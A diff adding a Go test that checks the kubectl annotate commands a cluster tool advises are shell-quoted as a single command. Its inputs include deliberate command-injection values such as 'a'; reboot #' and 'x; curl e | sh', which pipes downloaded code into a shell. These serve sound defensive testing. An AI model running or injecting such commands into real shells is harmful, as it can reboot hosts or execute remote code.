@@ -4,6 +4,8 @@ import (
 	"cmp"
 	"strings"
 	"testing"
+
+	"sigs.k8s.io/controller-runtime/pkg/client"
 )
 
 func TestHostClusterName(t *testing.T) {
@@ -44,6 +46,21 @@ func TestNamesAreCheckedBeforeAnythingIsWritten(t *testing.T) {
 		bad.KubeFedNamespace = cmp.Or(bad.KubeFedNamespace, "ns")
 		if bad.validateNames() == nil {
 			t.Errorf("%s: accepted", name)
+		}
+	}
+}
+
+// Names that a member tells are copied into a shell by whoever follows the advice.
+func TestAdvisedCommandsAreOneCommand(t *testing.T) {
+	o := Options{ClusterName: "m", ClusterContext: "a'; reboot #"}
+	for name, want := range map[string]string{
+		"m-host":         "serviceaccount m-host " + HostUIDAnnotation + "=u",
+		"x; curl e | sh": "serviceaccount 'x; curl e | sh' " + HostUIDAnnotation + "=u",
+		"--server=e":     "serviceaccount server=e " + HostUIDAnnotation + "=u",
+	} {
+		got := claimCommand(client.ObjectKey{Namespace: "ns", Name: name}, "u", o)
+		if got != `kubectl --context 'a'\''; reboot #' --namespace ns annotate --overwrite `+want {
+			t.Errorf("%s: %s", name, got)
 		}
 	}
 }
